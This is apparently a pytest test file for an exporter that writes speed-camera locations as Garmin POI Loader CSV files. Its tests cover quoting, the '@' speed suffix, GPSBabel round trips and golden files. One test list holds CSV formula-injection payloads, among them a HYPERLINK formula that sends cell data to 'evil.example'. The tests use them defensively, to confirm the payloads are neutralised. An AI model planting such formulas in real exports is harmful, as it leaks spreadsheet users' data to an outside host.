"""Garmin POI Loader CSV: lon,lat,"name","comment" per category file, speed as "@NN", read back
by GPSBabel and by a strict CSV reader written here."""

import csv
import io
import re
from functools import partial

import numpy as np
import pytest

from exporters.base import CameraSet, ExportError, get_exporter

from . import interchange
from tests.exporters.fixtures import SAMPLE_ROWS, scaled_cameras
from tests.exporters.readers.gpi_reader import read_gpi
from tests.exporters.interchange import (assert_positions_read_back, assert_same_bytes_in_any_order, assert_same_points,
                          category_title, check_golden_files, gpsbabel_read_files)

NUMBER = re.compile(r"-?\d{1,3}\.\d{1,6}")

export = partial(interchange.export, "garmin-poi-csv")


def csv_files(result):
    return {f.name: f for f in result.files if f.name.endswith(".csv")}


def read_poi_csv(data: bytes) -> list[tuple[float, float, str, str]]:
    """Strict reader: UTF-8 without BOM, CRLF lines, no header, 4 fields, quoted text, <= 6 decimals."""
    assert not data.startswith(b"\xef\xbb\xbf"), "no BOM expected"
    text = data.decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = []
    for line_no, fields in enumerate(csv.reader(io.StringIO(text, newline=""), strict=True), start=1):
        assert len(fields) == 4, (line_no, fields)
        lon, lat, name, comment = fields
        assert NUMBER.fullmatch(lon) and NUMBER.fullmatch(lat), (line_no, lon, lat)
        assert -180 <= float(lon) <= 180 and -90 <= float(lat) <= 90
        rows.append((float(lon), float(lat), name, comment))
    # Text fields are always quoted.
    for raw in text.split("\r\n")[:-1]:
        assert re.fullmatch(r'-?[\d.]+,-?[\d.]+,"(?:[^"]|"")*","(?:[^"]|"")*"', raw), raw
    return rows


def gpsbabel_read(files, tmp_path) -> list[dict]:
    return interchange.gpsbabel_read_files("garmin_poi", files, tmp_path)


def babel_name(raw: str) -> str:
    """GPSBabel's garmin_poi style does not unquote: strip the quotes it keeps."""
    assert raw.startswith('"') and raw.endswith('"'), raw
    return raw[1:-1].replace('""', '"')


def all_rows(result) -> dict[str, list]:
    return {name: read_poi_csv(f.data) for name, f in csv_files(result).items()}


# ---------------------------------------------------------------------------------------
# Content


def test_every_sample_camera_is_in_its_category_file_once_at_its_position():
    rows = all_rows(export(mobile=True))
    where = {}
    for name, lines in rows.items():
        for lon, lat, _, _ in lines:
            where.setdefault((round(lon, 6), round(lat, 6)), []).append(name)
    assert sum(len(v) for v in rows.values()) == 24
    for row in SAMPLE_ROWS:
        expected = category_title(row) + ".csv"
        assert where[(round(row["lon"], 6), round(row["lat"], 6))] == [expected], row["id"]


def test_names_carry_the_speed_as_an_at_suffix_and_unknown_speeds_have_none():
    rows = all_rows(export(mobile=True))
    names = {n for lines in rows.values() for _, _, n, _ in lines}
    assert {"Speed Rue de Rivoli@50", "Speed Broadway@48", "Section A1@130", "Red light+speed A7@70",
            "Mobile@50", "Red light", "Camera", "Level crossing D723"} <= names
    for lines in rows.values():
        for _, _, name, _ in lines:
            assert name.count("@") <= 1
            if "@" in name:
                assert re.fullmatch(r".+@\d{1,3}", name), name


def test_categories_are_not_split_by_speed():
    files = csv_files(export(mobile=True))
    assert sorted(files) == ["Average-speed sections.csv", "Danger zones.csv", "Mobile cameras.csv",
                             "Other enforcement.csv", "Red-light cameras.csv", "Speed cameras.csv"]
    assert files["Speed cameras.csv"].count == 12


def test_the_speed_suffix_survives_a_long_road_name_at_the_length_limit():
    exporter = get_exporter("garmin-poi-csv")
    assert exporter.max_name_length == 44
    rows = all_rows(export())
    paris = [n for lines in rows.values() for _, _, n, _ in lines if n.startswith("Speed Périphérique")]
    assert paris == ["Speed Périphérique extérieur très long n@110"]
    assert len(paris[0]) == 44
    very_long = CameraSet.from_records([dict(id=1, lat=50.0, lon=8.0, speed=130, road="Bundesautobahn " * 20)])
    (name,) = [n for lines in all_rows(export(very_long)).values() for _, _, n, _ in lines]
    assert len(name) == 44 and name.endswith("@130") and name.startswith("Speed Bundesautobahn")


def test_an_at_sign_in_a_road_name_is_not_mistaken_for_a_speed():
    cams = CameraSet.from_records([dict(id=1, lat=50.0, lon=8.0, speed=80, road="B3 @ Kassel")])
    (line,) = [r for lines in all_rows(export(cams)).values() for r in lines]
    assert line[2] == "Speed B3 Kassel@80"


# Feed text a spreadsheet would run as a formula (OWASP "CSV Injection").
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
POI_LOADER_SPEED = re.compile(r"@(\d+)$")  # POI Loader: "@" and the speed at the end of the name


def hostile_cameras() -> CameraSet:
    """Cameras west of Greenwich (negative longitudes) whose road and description are hostile."""
    return CameraSet.from_records([dict(id=i + 1, lat=51.5, lon=round(-0.1234 - i / 100, 6), speed=30 + 10 * i,
                                        road=text, description=HOSTILE[-1 - i]) for i, text in enumerate(HOSTILE)])


def test_text_cells_that_start_a_formula_get_a_quote_and_coordinates_stay_numbers():
    result = export(hostile_cameras())
    (data,) = [f.data for f in csv_files(result).values()]
    rows = read_poi_csv(data)  # every line still: two bare numbers, two quoted texts
    assert [(lon, lat) for lon, lat, _, _ in rows] == [(round(-0.1234 - i / 100, 6), 51.5) for i in range(6)]
    for _, _, name, comment in rows:
        for cell in (name, comment):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    comments = [c for _, _, _, c in rows]
    # control characters became spaces first (a tab or CR can hide a formula behind it), then the guard
    assert comments[0] == "'=1, =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert comments[2] == "'@SUM(A1:A9), -2+3" and comments[3] == "'-2+3, SUM(A1:A9)"
    assert comments[5] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\"), =1"
    first = data.split(b"\r\n")[0]
    assert first.startswith(b'-0.1234,51.5,"Speed =HYPERLINK(') and b'@30","\'=1, =HYPERLINK(' in first
    assert [n for _, _, n, _ in rows][3] == "Speed SUM(A1:A9)@60"  # the road's "@" became a space


def test_a_neutralised_file_reads_back_at_the_same_positions_in_gpsbabel(tmp_path):
    cams = hostile_cameras()
    files = csv_files(export(cams)).values()
    assert_positions_read_back(files, "garmin_poi", lambda f: [(lon, lat) for lon, lat, _, _ in read_poi_csv(f.data)],
                               cams, tmp_path, babel_tol=1e-9, reader_tol=1e-9)


def test_only_the_speed_marker_is_an_at_sign_and_gpsbabel_alerts_at_that_speed(tmp_path):
    """Roads with stray "@": every name has one "@", the speed at its end, and GPSBabel's GPI
    writer (the POI Loader convention: what follows the first "@" is the speed) gives each
    POI the camera's speed (km/h)."""
    roads = ["Rue@Gare", "@home", "A@B@C", "B3 @ Kassel", "x@", "@"]
    cams = CameraSet.from_records([dict(id=i + 1, lat=50.0 + i / 10, lon=8.0, speed=40 + 10 * i, road=road)
                                   for i, road in enumerate(roads)])
    (f,) = csv_files(export(cams)).values()
    names = [n for _, _, n, _ in read_poi_csv(f.data)]
    assert names == ["Speed Rue Gare@40", "Speed home@50", "Speed A B C@60", "Speed B3 Kassel@70", "Speed x@80",
                     "Speed@90"]
    assert all(n.count("@") == 1 and POI_LOADER_SPEED.search(n) for n in names)
    # GPSBabel's garmin_poi reader keeps the quotes, so the names go in as unicsv, as read here
    table = tmp_path / "names.csv"
    with table.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow(["lat", "lon", "name"])
        out.writerows([(lat, lon, name) for lon, lat, name, _ in read_poi_csv(f.data)])
    gpi = tmp_path / "cams.gpi"
    interchange.gpsbabel("-i", "unicsv", "-f", str(table), "-o", "garmin_gpi,alerts=1,unique=0", "-F", str(gpi))
    speeds = {p.name: round(p.alert.speed_cms * 0.036) for p in read_gpi(gpi.read_bytes()).pois}
    assert speeds == {name: 40 + 10 * i for i, name in enumerate(names)}


def test_quotes_and_commas_inside_text_are_quoted_and_read_back_exactly():
    rows = all_rows(export())
    comments = {c for lines in rows.values() for _, _, _, c in lines}
    assert 'Lyon "Perrache" & <tunnel>, A7' in comments
    assert "Smart motorway, gantry 4/5, M25" in comments
    assert "Bus lane, camera, O'Connell St" in comments
    raw = csv_files(export())["Red-light cameras.csv"].data.decode()
    assert '"Lyon ""Perrache"" & <tunnel>, A7"' in raw


def test_the_comment_is_the_description_and_the_road():
    rows = all_rows(export())
    by_name = {n: c for lines in rows.values() for _, _, n, c in lines}
    assert by_name["Speed Rue de Rivoli@50"] == "Paris centre, Rue de Rivoli"
    assert by_name["Red light"] == "München Ampel"
    assert by_name["Camera"] == "Other"


def test_files_are_utf8_with_crlf_and_at_most_six_decimals():
    data = csv_files(export())["Speed cameras.csv"].data
    assert "Südosttangente".encode("utf-8") in data and "Zona 30 — centro".encode("utf-8") in data
    lines = data.split(b"\r\n")
    assert lines[-1] == b"" and len(lines) == 13
    assert lines[0] == b'2.352222,48.856613,"Speed Rue de Rivoli@50","Paris centre, Rue de Rivoli"'
    assert b'2.34,48.86,"Speed P' in data  # trailing zeros dropped
    assert b"151.209296,-33.86882," in data


def test_control_characters_and_line_breaks_in_text_become_spaces():
    cams = CameraSet.from_records([dict(id=1, lat=50.0, lon=8.0, speed=50, road="A5\nKm 12", description="a\r\nb\tc")])
    (line,) = [r for lines in all_rows(export(cams)).values() for r in lines]
    assert line[2:] == ("Speed A5 Km 12@50", "a b c, A5 Km 12")


def test_a_camera_without_a_valid_position_is_refused_with_its_id():
    rows = [dict(r) for r in SAMPLE_ROWS]
    rows[6]["lon"] = 181.0
    with pytest.raises(ExportError, match=r"Garmin POI Loader CSV cannot store 1 camera.*id 7 \(41\.902782, 181\.0\)"):
        export(CameraSet.from_records(rows))


def test_the_result_says_alerts_are_not_direction_aware_and_the_speed_is_in_the_name():
    exporter = get_exporter("garmin-poi-csv")
    assert (exporter.direction_aware, exporter.speed_carried_as, exporter.encoding) == (False, "name", "utf-8")
    notes = " ".join(export().notes)
    assert "not direction-aware" in notes and "'@' suffix" in notes and "km/h" in notes


def test_the_notes_give_the_poi_loader_distance_the_format_cannot_carry(tmp_path):
    """No field holds a distance (GPSBabel reads no proximity back), so the notes give the
    one to enter in POI Loader: 500 m, a camera without a known limit's, or the option's."""
    result = export(mobile=True)
    rows = gpsbabel_read_files("garmin_poi", csv_files(result).values(), tmp_path)
    assert len(rows) == 24 and {r.get("Proximity", "") for r in rows} == {""}
    notes = " ".join(result.notes)
    assert "choose 'Manual' mode and set proximity alerts to 500 m" in notes
    assert "no '@' suffix" in notes and "only when you approach faster than the limit" in notes
    assert "a camera with a known limit stays silent while you keep to it" in notes
    assert "the GPI package instead, where every camera warns at any speed" in notes
    assert "set proximity alerts to 1,200 m" in " ".join(export(proximity_m=1200).notes)


def test_every_csv_has_a_24_pixel_8_bit_bmp_of_the_same_name():
    result = export(mobile=True)
    by_name = {f.name: f for f in result.files}
    for name in csv_files(result):
        bmp = by_name[name[:-4] + ".bmp"]
        assert bmp.count == 0 and bmp.data[:2] == b"BM"
        assert int.from_bytes(bmp.data[18:22], "little") == 24 and int.from_bytes(bmp.data[22:26], "little") == 24
        assert int.from_bytes(bmp.data[28:30], "little") == 8
    assert len(result.files) == 2 * len(csv_files(result))
    danger = export(icons="fr-danger")
    icons = {f.data for f in danger.files if f.name.endswith(".bmp")}
    assert len(icons) == 1  # the danger sign for every category


# ---------------------------------------------------------------------------------------
# GPSBabel


def test_gpsbabel_reads_every_sample_camera_with_its_name(tmp_path):
    result = export(mobile=True)
    got = [(babel_name(r["Name"]), float(r["Longitude"]), float(r["Latitude"]))
           for r in gpsbabel_read(csv_files(result).values(), tmp_path)]   # each file: as many as it declares
    ours = [(n, lon, lat) for lines in all_rows(result).values() for lon, lat, n, _ in lines]
    assert sorted(n for n, _, _ in got) == sorted(n for n, _, _ in ours)
    assert "Speed Périphérique extérieur très long n@110" in {n for n, _, _ in got}
    expected = np.array([(r["lon"], r["lat"]) for r in SAMPLE_ROWS])
    assert_same_points(expected, np.array([(x, y) for _, x, y in got]), tol=1e-5 + 1e-9)


def test_fifty_thousand_cameras_round_trip_through_gpsbabel_and_the_reader(tmp_path):
    cams = scaled_cameras(50_000)
    assert_positions_read_back(csv_files(export(cams, mobile=True)).values(), "garmin_poi",
                               lambda f: [(lon, lat) for lon, lat, _, _ in read_poi_csv(f.data)], cams, tmp_path,
                               babel_tol=1e-5 + 1e-9, reader_tol=1e-6 + 1e-9)


# ---------------------------------------------------------------------------------------
# Determinism and golden files


def test_rendering_twice_or_in_another_order_gives_the_same_bytes():
    assert_same_bytes_in_any_order("garmin-poi-csv", scaled_cameras(3_000), seed=9)


def test_the_sample_export_matches_the_golden_files():
    check_golden_files("garmin-poi-csv", export(mobile=True).files, (".csv", ".bmp"))
